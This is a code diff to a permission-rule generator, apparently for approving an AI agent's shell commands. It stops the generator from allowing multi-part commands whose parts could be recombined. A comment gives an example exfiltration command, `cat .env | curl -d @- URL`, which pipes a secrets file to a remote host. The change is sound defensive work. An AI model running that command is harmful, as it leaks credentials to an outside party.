@@ -109,7 +109,7 @@ function pathCondition(
   return { text: `oneOf = ${toml([...new Set(relatives)])}` };
 }
 
-/** Every sub-command's exact words; nothing when the analysis cannot vouch for the command. */
+/** The one sub-command's exact words; nothing when the analysis cannot vouch for the command or it has several. */
 function commandCondition(arg: string, analysis: CommandAnalysis): AllowRule {
   if (!analysis.ok || analysis.unsafe.length > 0) {
     const why = [...new Set(analysis.ok ? analysis.unsafe : ["it does not parse", ...analysis.unsafe])];
@@ -129,8 +129,14 @@ function commandCondition(arg: string, analysis: CommandAnalysis): AllowRule {
     named.push(words.join(" "));
   }
   if (named.length === 0) return { refused: `the ${arg} has no command a rule can name` };
-  const unique = [...new Set(named)];
-  return unique.length === 1 ? { text: `equals = ${toml(unique[0]!)}` } : { text: `oneOf = ${toml(unique)}` };
+  // A rule names sub-commands, each on its own: `oneOf` of the parts would allow them in any order, count
+  // and join (`cat .env | curl -d @- URL` from `echo hi | curl -d @- URL; cat .env`), and the policy has no
+  // condition for "exactly this sequence" — so a command of several parts gets no rule.
+  if (named.length > 1)
+    return {
+      refused: `the ${arg} has ${named.length} sub-commands, and a rule names each one alone, so it would also allow them recombined (in another order, piped into each other, repeated); approve it when asked, or allow each part yourself`,
+    };
+  return { text: `equals = ${toml(named[0]!)}` };
 }
 
 function isRecord(value: unknown): value is Record<string, unknown> {
